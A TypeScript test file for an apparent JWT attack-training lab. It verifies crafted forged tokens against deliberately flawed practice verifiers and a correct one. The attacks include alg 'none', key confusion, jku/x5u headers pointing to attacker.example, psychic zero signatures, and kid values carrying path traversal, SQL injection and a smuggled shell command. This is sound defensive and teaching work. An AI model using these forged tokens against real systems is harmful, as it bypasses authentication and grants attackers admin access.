import { X509Certificate, createHash, createHmac, createPublicKey, verify as nodeVerify } from 'node:crypto'
import fc from 'fast-check'
import { beforeAll, describe, expect, it } from 'vitest'
import { correctVerify } from '../practice/correct-verify'
import { createPracticeEnv, hostDocument } from '../practice/env'
import type { MistakeId, PracticeEnv } from '../practice/types'
import { verifyPractice } from '../practice/verify-practice'
import { decodeToken } from '../token/decode'
import { verifyToken } from '../token/verify'
import type { KeyInput } from '../types'
import { attackCatalogue } from './catalogue'
import { craftAttack } from './craft'
import type { AttackId, AttackInput, CraftedToken } from './types'

const NOW = 1767225600 // 2026-01-01T00:00:00Z
const URL_JKU = 'https://attacker.example/jwks.json'
const URL_X5U = 'https://attacker.example/cert.pem'

let env: PracticeEnv
let headerText: string
let adminPayload: string

const segmentText = (segment: string) => Buffer.from(segment, 'base64url').toString('utf8')
const parts = (token: string) => token.split('.') as [string, string, string]

beforeAll(async () => {
  const created = await createPracticeEnv({ now: NOW })
  if (!created.ok) throw new Error(created.error.message)
  env = created.value
  const [h, p] = parts(env.userToken)
  headerText = segmentText(h)
  adminPayload = segmentText(p).replace('"role":"user"', '"role":"admin"')
})

async function craft(id: AttackId, extra: Partial<AttackInput> = {}): Promise<readonly CraftedToken[]> {
  const result = await craftAttack(id, { headerText, payloadText: adminPayload, ...extra })
  if (!result.ok) throw new Error(`${result.error.code}: ${result.error.message}`)
  return result.value
}

/** Accepted by the verifier with only `mistake` on, through that mistake, with the admin claims. */
async function expectExploits(token: string, mistake: MistakeId, e: PracticeEnv = env) {
  const result = await verifyPractice(token, { [mistake]: true }, e)
  expect(result.reason.startsWith('Accepted: '), result.reason).toBe(true)
  expect(result).toMatchObject({ accepted: true, exploited: mistake, claims: { role: 'admin', sub: 'alice' } })
}

/** Rejected by the correct verifier and by verifyToken under every real server key. */
async function expectRejectedByCorrect(token: string, e: PracticeEnv = env) {
  const correct = await correctVerify(token, e)
  expect(correct.accepted).toBe(false)
  expect(correct.claims).toBeUndefined()
  const serverKeys: KeyInput[] = [
    { format: 'pem-spki', keys: [e.rsaPublicKey], notes: [] },
    { format: 'pem-spki', keys: [e.ecPublicKey], notes: [] },
    { format: 'secret', keys: [e.hmacKey], notes: [] },
  ]
  for (const keys of serverKeys) {
    const verified = await verifyToken(decodeToken(token), keys)
    expect(verified.ok && verified.value.valid).toBe(false)
  }
}

describe('attack catalogue', () => {
  it('lists every attack once, with text, references and a practice mistake', () => {
    expect(attackCatalogue.map((a) => a.id)).toEqual([
      'alg-none', 'empty-hmac-secret', 'key-confusion', 'embedded-jwk', 'jku-injection', 'x5u-injection',
      'kid-path-traversal', 'kid-sql-injection', 'kid-command-injection', 'psychic-signature', 'claim-tampering',
    ])
    for (const attack of attackCatalogue) {
      expect(attack.title.length).toBeGreaterThan(5)
      expect(attack.exploits.length).toBeGreaterThan(40)
      expect(attack.fix.length).toBeGreaterThan(30)
      expect(attack.references.length).toBeGreaterThan(0)
      for (const ref of attack.references) expect(ref).toMatch(/^(RFC \d+ §[\d.]+|CVE-\d{4}-\d+)$/)
    }
    expect(Object.fromEntries(attackCatalogue.map((a) => [a.id, a.inputs]))).toEqual({
      'alg-none': [], 'empty-hmac-secret': [], 'key-confusion': ['publicKey'], 'embedded-jwk': ['keyType'],
      'jku-injection': ['url', 'keyType'], 'x5u-injection': ['url', 'keyType'], 'kid-path-traversal': [],
      'kid-sql-injection': [], 'kid-command-injection': [], 'psychic-signature': [], 'claim-tampering': ['originalToken'],
    })
  })
})

describe('crafted tokens against the practice verifiers', () => {
  it('alg none: four casings, empty signature, other header members kept in place', async () => {
    const tokens = await craft('alg-none')
    expect(tokens.map((t) => t.title)).toEqual([
      'alg "none", empty signature', 'alg "None", empty signature', 'alg "NONE", empty signature', 'alg "nOnE", empty signature',
    ])
    for (const [i, casing] of ['none', 'None', 'NONE', 'nOnE'].entries()) {
      const token = (tokens[i] as CraftedToken).token
      const [h, p, s] = parts(token)
      expect(segmentText(h)).toBe(`{"alg":"${casing}","typ":"JWT","kid":"rsa-main"}`)
      expect(segmentText(p)).toBe(adminPayload)
      expect(s).toBe('')
      expect(tokens[i]?.reference).toBe('RFC 7518 §3.6; RFC 8725 §2.1; RFC 8725 §3.1')
      await expectExploits(token, 'acceptNone')
      await expectRejectedByCorrect(token)
    }
  })

  it('empty HMAC secret: the signature is HMAC-SHA256 under a zero-length key', async () => {
    const [crafted] = await craft('empty-hmac-secret')
    const [h, p, s] = parts(crafted!.token)
    expect(segmentText(h)).toBe('{"alg":"HS256","typ":"JWT","kid":"rsa-main"}')
    expect(s).toBe(createHmac('sha256', Buffer.alloc(0)).update(`${h}.${p}`).digest('base64url'))
    await expectExploits(crafted!.token, 'emptyHmacSecret')
    await expectRejectedByCorrect(crafted!.token)
  })

  it('key confusion: PEM with and without the final line break, and the JWK text; the exact server bytes win', async () => {
    const tokens = await craft('key-confusion', { publicKeyText: env.rsaPublicPem })
    expect(tokens.map((t) => t.title)).toEqual([
      'HS256 keyed with the PEM with its final line break (exactly as given)',
      'HS256 keyed with the PEM without the final line break',
      'HS256 keyed with the public JWK text',
    ])
    const jwk = createPublicKey(env.rsaPublicPem).export({ format: 'jwk' })
    const secrets = [env.rsaPublicPem, env.rsaPublicPem.replace(/\n$/, ''), JSON.stringify({ kty: 'RSA', n: jwk.n, e: jwk.e })]
    for (const [i, token] of tokens.entries()) {
      const [h, p, s] = parts(token.token)
      expect(segmentText(h)).toBe('{"alg":"HS256","typ":"JWT","kid":"rsa-main"}')
      expect(s).toBe(createHmac('sha256', secrets[i] as string).update(`${h}.${p}`).digest('base64url'))
      expect(token.extra).toEqual([{ label: 'HMAC secret used', value: secrets[i] }])
      await expectRejectedByCorrect(token.token)
    }
    await expectExploits(tokens[0]!.token, 'algFromHeader')
    for (const token of tokens.slice(1)) {
      expect(await verifyPractice(token.token, { algFromHeader: true }, env)).toEqual({
        accepted: false,
        reason: "Invalid HS256 signature under the server's RSA public key PEM used as the HMAC secret.",
      })
    }
  })

  it('key confusion from a JWK: the SPKI PEM variants come first, then the JWK text', async () => {
    const jwk = createPublicKey(env.rsaPublicPem).export({ format: 'jwk' })
    const text = JSON.stringify({ kty: 'RSA', e: jwk.e, n: jwk.n })
    const tokens = await craft('key-confusion', { publicKeyText: text })
    expect(tokens.map((t) => t.title)).toEqual([
      'HS256 keyed with the PEM with its final line break',
      'HS256 keyed with the PEM without the final line break',
      'HS256 keyed with the public JWK text',
      'HS256 keyed with the JWK exactly as given',
    ])
    expect(tokens[0]?.extra?.[0]?.value).toBe(env.rsaPublicPem)
    expect(tokens[3]?.extra?.[0]?.value).toBe(text)
    await expectExploits(tokens[0]!.token, 'algFromHeader')
  })

  it.each(['EC', 'RSA'] as const)('embedded jwk (%s): signed by a fresh key whose public JWK is in the header', async (keyType) => {
    const [crafted] = await craft('embedded-jwk', { keyType })
    const [h, p, s] = parts(crafted!.token)
    const header = JSON.parse(segmentText(h))
    expect(Object.keys(header)).toEqual(['alg', 'typ', 'kid', 'jwk'])
    expect(header.alg).toBe(keyType === 'EC' ? 'ES256' : 'RS256')
    expect(Object.keys(header.jwk)).toEqual(keyType === 'EC' ? ['kty', 'crv', 'x', 'y'] : ['kty', 'n', 'e'])
    const key = createPublicKey({ key: header.jwk, format: 'jwk' })
    expect(nodeVerify('sha256', Buffer.from(`${h}.${p}`), { key, dsaEncoding: 'ieee-p1363' }, Buffer.from(s, 'base64url'))).toBe(true)
    expect(header.kid).toBe(createHashThumbprint(header.jwk))
    expect(crafted!.extra?.map((x) => x.label)).toEqual(['Embedded public key (JWK)', 'Attacker private key (PEM)', 'Attacker private key (JWK)'])
    await expectExploits(crafted!.token, 'trustHeaderJwk')
    await expectRejectedByCorrect(crafted!.token)
  })

  it('jku: the JWKS to host holds the signing key under the header kid; accepted once hosted', async () => {
    const [crafted] = await craft('jku-injection', { url: URL_JKU })
    const [h, p, s] = parts(crafted!.token)
    const header = JSON.parse(segmentText(h))
    expect(Object.keys(header)).toEqual(['alg', 'typ', 'kid', 'jku'])
    expect(header.jku).toBe(URL_JKU)
    expect(crafted!.extra?.[0]?.label).toBe(`JWKS to host at ${URL_JKU}`)
    const jwks = JSON.parse(crafted!.extra?.[0]?.value as string)
    expect(jwks.keys).toHaveLength(1)
    expect(jwks.keys[0]).toMatchObject({ kid: header.kid, use: 'sig', alg: 'ES256', kty: 'EC', crv: 'P-256' })
    expect(jwks.keys[0].d).toBeUndefined()
    const key = createPublicKey({ key: jwks.keys[0], format: 'jwk' })
    expect(nodeVerify('sha256', Buffer.from(`${h}.${p}`), { key, dsaEncoding: 'ieee-p1363' }, Buffer.from(s, 'base64url'))).toBe(true)

    expect(await verifyPractice(crafted!.token, { trustJku: true }, env)).toEqual({
      accepted: false,
      reason: `The "jku" URL ${URL_JKU} could not be fetched: nothing is hosted there. Host a document at that URL first.`,
    })
    const hosted = hostDocument(env, URL_JKU, crafted!.extra?.[0]?.value as string)
    await expectExploits(crafted!.token, 'trustJku', hosted)
    await expectRejectedByCorrect(crafted!.token, hosted)
  })

  it('x5u: a self-signed certificate (checked by node:crypto) for the signing key; accepted once hosted', async () => {
    const [crafted] = await craft('x5u-injection', { url: URL_X5U })
    const [h, p, s] = parts(crafted!.token)
    expect(Object.keys(JSON.parse(segmentText(h)))).toEqual(['alg', 'typ', 'kid', 'x5u'])
    const pem = crafted!.extra?.[0]?.value as string
    expect(crafted!.extra?.[0]?.label).toBe(`Certificate to host at ${URL_X5U}`)
    const certificate = new X509Certificate(pem)
    expect(certificate.subject).toBe('CN=JWT Lab attacker')
    expect(certificate.issuer).toBe('CN=JWT Lab attacker')
    expect(certificate.verify(certificate.publicKey)).toBe(true)
    expect(nodeVerify('sha256', Buffer.from(`${h}.${p}`), { key: certificate.publicKey, dsaEncoding: 'ieee-p1363' }, Buffer.from(s, 'base64url'))).toBe(true)
    const hosted = hostDocument(env, URL_X5U, pem)
    await expectExploits(crafted!.token, 'trustJku', hosted)
    await expectRejectedByCorrect(crafted!.token, hosted)
  })

  it.each([
    ['kid-path-traversal', 'kidAsPath', '../../../../../../dev/null', ''],
    ['kid-sql-injection', 'kidAsSql', "x' UNION SELECT 'attacker-key' -- ", 'attacker-key'],
    ['kid-command-injection', 'kidAsCommand', 'x; echo -n attacker-key', 'attacker-key'],
  ] as const)('%s: kid preset signed HS256 with the key it makes the verifier use', async (id, mistake, kid, secret) => {
    const [crafted] = await craft(id)
    const [h, p, s] = parts(crafted!.token)
    expect(segmentText(h)).toBe(`{"alg":"HS256","typ":"JWT","kid":${JSON.stringify(kid)}}`)
    expect(s).toBe(createHmac('sha256', secret).update(`${h}.${p}`).digest('base64url'))
    await expectExploits(crafted!.token, mistake)
    await expectRejectedByCorrect(crafted!.token)
  })

  it('psychic signature: ES256 with 64 zero bytes', async () => {
    const [crafted] = await craft('psychic-signature')
    const [h, , s] = parts(crafted!.token)
    expect(segmentText(h)).toBe('{"alg":"ES256","typ":"JWT","kid":"rsa-main"}')
    expect(s).toBe('A'.repeat(86))
    await expectExploits(crafted!.token, 'psychicSignature')
    await expectRejectedByCorrect(crafted!.token)
  })

  it('psychic signature: an ES256K (secp256k1) variant with the same 64 zero bytes, which a strict verifier rejects', async () => {
    const tokens = await craft('psychic-signature')
    expect(tokens.map((t) => t.title)).toEqual(['ES256 with r = 0 and s = 0', 'ES256K with r = 0 and s = 0'])
    const [h, , s] = parts(tokens[1]!.token)
    expect(segmentText(h)).toBe('{"alg":"ES256K","typ":"JWT","kid":"rsa-main"}')
    expect(s).toBe('A'.repeat(86))
    // The core's own verifier, with any secp256k1 key, never accepts r = s = 0.
    const { generateSigningKey, parseKey, verifyToken } = await import('../index')
    const key = await generateSigningKey('ES256K')
    expect(key.ok).toBe(true)
    if (!key.ok) return
    const parsed = await parseKey(key.value.publicText, { encoding: 'utf8' })
    expect(parsed.ok).toBe(true)
    if (!parsed.ok) return
    const verdict = await verifyToken(decodeToken(tokens[1]!.token), parsed.value)
    expect(verdict.ok && verdict.value.valid).toBe(false)
  })

  it('claim tampering: new payload between the original header and signature', async () => {
    const [crafted] = await craft('claim-tampering', { originalToken: env.userToken })
    const [h, p, s] = parts(crafted!.token)
    const [oh, , os] = parts(env.userToken)
    expect([h, s]).toEqual([oh, os])
    expect(segmentText(p)).toBe(adminPayload)
    await expectExploits(crafted!.token, 'skipSignature')
    await expectRejectedByCorrect(crafted!.token)
  })

  it('keeps number text and member order of the header and payload', async () => {
    const [crafted] = await craftAttack('empty-hmac-secret', {
      headerText: '{\n  "typ": "JWT",\n  "n": 1.50,\n  "alg": "RS256"\n}',
      payloadText: '{ "big": 123456789012345678901234567890, "e": 1e3 }',
    }).then((r) => (r.ok ? r.value : []))
    const [h, p] = parts(crafted!.token)
    expect(segmentText(h)).toBe('{"typ":"JWT","n":1.50,"alg":"HS256"}')
    expect(segmentText(p)).toBe('{"big":123456789012345678901234567890,"e":1e3}')
  })
})

describe('attack input errors', () => {
  it.each([
    ['key-confusion', {}, 'KEY_REQUIRED', "Key confusion needs the verifier's public key: paste it as PEM or JWK (it is public, so attackers usually find it in a JWKS or a certificate)."],
    ['key-confusion', { publicKeyText: 'my-secret' }, 'KEY_NOT_ASYMMETRIC', 'The key is an HMAC secret. Key confusion turns an RSA or EC public key into an HMAC secret: paste the public key (PEM or JWK) the verifier holds.'],
    ['jku-injection', {}, 'URL_REQUIRED', 'Enter the URL where you will host the key file (an address you control, e.g. https://attacker.example/jwks.json).'],
    ['x5u-injection', { url: 'attacker.example/cert.pem' }, 'URL_INVALID', '"attacker.example/cert.pem" is not an absolute URL. Enter one like https://attacker.example/jwks.json.'],
    ['jku-injection', { url: 'ftp://attacker.example/k' }, 'URL_INVALID', '"ftp://attacker.example/k" uses ftp; verifiers fetch keys over https (or http). Enter an https URL.'],
    ['claim-tampering', {}, 'TOKEN_REQUIRED', 'Claim tampering keeps the signature of a real token: paste the original signed token.'],
    ['claim-tampering', { originalToken: 'a.b' }, 'TOKEN_INVALID', 'The original token must be a signed JWT of three parts (header.payload.signature) with a signature; this one has 2 parts.'],
    ['claim-tampering', { originalToken: 'a.b.' }, 'TOKEN_INVALID', 'The original token must be a signed JWT of three parts (header.payload.signature) with a signature; this one has 3 parts and an empty signature.'],
    ['alg-none', { headerText: '[1]' }, 'JSON_NOT_OBJECT', 'The header must be a JSON object ({…}) to craft attacks from it.'],
    ['alg-none', { payloadText: '"text"' }, 'JSON_NOT_OBJECT', 'The payload must be a JSON object ({…}) to craft attacks from it.'],
    ['psychic-signature', { headerText: '{"alg":"RS256",}' }, 'JSON_INVALID', 'The header is not valid JSON: trailing commas are not allowed in JSON: remove the comma before the closing bracket (line 1, column 16). Fix the header JSON first.'],
    ['nope' as AttackId, {}, 'ATTACK_UNKNOWN', 'There is no attack called "nope". Choose one from the attack catalogue.'],
  ] as const)('%s with %j fails with %s', async (id, extra, code, message) => {
    const result = await craftAttack(id, { headerText: '{"alg":"RS256"}', payloadText: '{"role":"admin"}', ...extra })
    expect(result).toEqual({ ok: false, error: { code, message } })
  })
})

/** RFC 7638 thumbprint computed with node:crypto, independently of the code under test. */
function createHashThumbprint(jwk: Record<string, string>): string {
  const members = jwk.kty === 'EC' ? { crv: jwk.crv, kty: jwk.kty, x: jwk.x, y: jwk.y } : { e: jwk.e, kty: jwk.kty, n: jwk.n }
  return createHash('sha256').update(JSON.stringify(members)).digest('base64url')
}

describe('robustness', () => {
  it('craftAttack always returns a result, whatever the texts', async () => {
    const ids = attackCatalogue.map((a) => a.id).filter((id) => id !== 'embedded-jwk' && id !== 'jku-injection' && id !== 'x5u-injection')
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...ids), fc.oneof(fc.string(), fc.json()), fc.oneof(fc.string(), fc.json()), fc.string(), async (id, header, payload, other) => {
        const result = await craftAttack(id, { headerText: header, payloadText: payload, publicKeyText: other, originalToken: other })
        expect(typeof result.ok).toBe('boolean')
        if (!result.ok) expect(result.error.message.length).toBeGreaterThan(0)
      }),
      { numRuns: 200 },
    )
  })
})
